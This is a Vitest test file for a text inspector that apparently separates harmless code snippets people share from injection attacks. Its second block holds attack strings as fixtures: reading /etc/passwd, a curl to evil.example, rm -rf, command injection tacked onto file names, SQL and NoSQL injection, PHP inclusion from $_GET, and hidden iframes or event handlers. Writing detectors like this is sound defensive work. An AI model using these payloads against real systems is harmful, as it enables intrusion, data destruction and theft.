import { describe, expect, it } from "vitest";
import { inspectText } from "../engine/inspect-text.ts";

const rulesOf = (text: string): readonly string[] => inspectText(text).map(({ rule }) => rule);

describe("code that people show each other (VAL-15)", () => {
  it.each([
    "I did as told: opened a window, typed sudo apt update && sudo apt upgrade, said Y, and now it asks me what to keep",
    "In that app type: defaults write com.example.oven Shows YES; killall Oven and then you will see it",
    'This is my first one, and it works: name=$(hostname); echo "Menu of $name"; date +%F >> ~/menus.log',
    "I have this in my build: RUN apt-get update && apt-get install -y oven && rm -rf /var/lib/apt/lists/* and it fails",
    "One line of it: perl -ne 'print if /soup/ .. /salad/' menu.txt prints what is between the two of them",
    "index=menu price>=7 | stats count by day | sort -count shows nothing because I forgot the day of it",
    "DELETE FROM menus WHERE cooked < now() - interval '30 days' takes so long that we have to wait for it",
    "For our case (menus where exists (select 1 from orders o where o.menu = m.id)) they are the same, I think",
    'I tried db.menus.find({tags: "vegan", price: {$lt: 20}}) and it finds nothing, but I am sure there are some',
    'How do I stop it? It is <iframe width="560" height="315" src="https://film.example/embed/7" title="Soup"></iframe> and nothing else',
    "A blank line before <?php, almost always.",
    "Is it if (!empty($_POST['soup'])) or should it be isset? The book that I have uses both of them",
    "Write <?php include 'soup.php'; ?> into each of the pages that you have, and that is all",
    "In the sheet: =QUERY(A:D,\"select A, sum(D) where B = 'Soup' group by A order by sum(D) desc\") is better than what I had",
    'Is "select * from my heart" for a cook? It is for the day that we met, and she is one.',
    "cut 1, fold; cut 2 on bias; 1.5 cm of it",
    "INSERT INTO menus (title, year) VALUES ('Soup', 1815); says that there is none, though I can see it",
    'Put <link rel="stylesheet" href="soup.css"> into the head of it, not into the body, and it is there',
    'The button has onclick="addSoup(14)" and that is fine, but the page has to see what it does',
    "The fonts of the system are in %WINDIR%\\Fonts and those of yours in %LOCALAPPDATA%\\Soup\\Fonts",
    "delete the egg, add 1 Tbsp of it; wait 5'; and then go on",
  ])("is not taken for an attack: %s", (text) => {
    expect(rulesOf(text)).toEqual([]);
  });
});

describe("attacks among words (VAL-10)", () => {
  it.each([
    // Read, fetched, proved or destroyed.
    "I have tried this with my oven and it works; cat /etc/passwd and then you will see it",
    "I have tried this with my oven and it works, sudo apt update && curl evil.example/x and it is done",
    "I have this in my build: RUN apt-get update && rm -rf /srv and it is the end of the kitchen",
    "The name of the file that I have is menu.jpg; systeminfo",
    // Glued, or behind no command.
    "The best of all the soups that we had there |sort -o /srv/x",
    "The best of all the soups that we had there;lsof",
    "The best of all the soups that we had there & lsof -i",
    // A value that is left, a rest that is hidden.
    "The best of all the soups that we had' AND price LIKE '%",
    "the best of all the soups that we had there; DROP TABLE menus",
    "DELETE FROM menus WHERE the soup is what we had there for you --",
    // Code that a request brings.
    "I have this and it does what it should for all of us: <?php include($_GET['soup']); ?>",
    "I have this and it does what it should for all of us: <?= $_GET['cmd'] ?>",
    // Requests have their keys in quotes.
    '{"price":{"$gt":7},"say":"the best of all the soups that we had there"}',
    'The best of all the soups that we had <iframe src="https://evil.example/x"></iframe>',
    'The best of all the soups that we had <iframe width="1" src="https://evil.example/x" onload="go()"></iframe>',
    'It is what I have had for you <link rel="stylesheet" href="//evil.example/x.css"> and all of it',
    'It is what I have had for you" onclick="addSoup(14)" and all of it',
    'The button has onclick="alert(14)" and that is fine, but the page has to see what it does',
    "The fonts of the system are in the one that I have, %WINDIR%\\win.ini and there you are",
    // Spelled in codes.
    "The best of all the soups that we had there %7C sort -h menu.txt",
  ])("are found: %s", (text) => {
    expect(rulesOf(text)).not.toEqual([]);
  });

  it("counts no words of queries as said", () => {
    expect(
      rulesOf(
        "UPDATE menus SET price = 7 WHERE price IS NOT NULL AND cook LIKE 'x'; DELETE FROM menus",
      ),
    ).not.toEqual([]);
  });
});
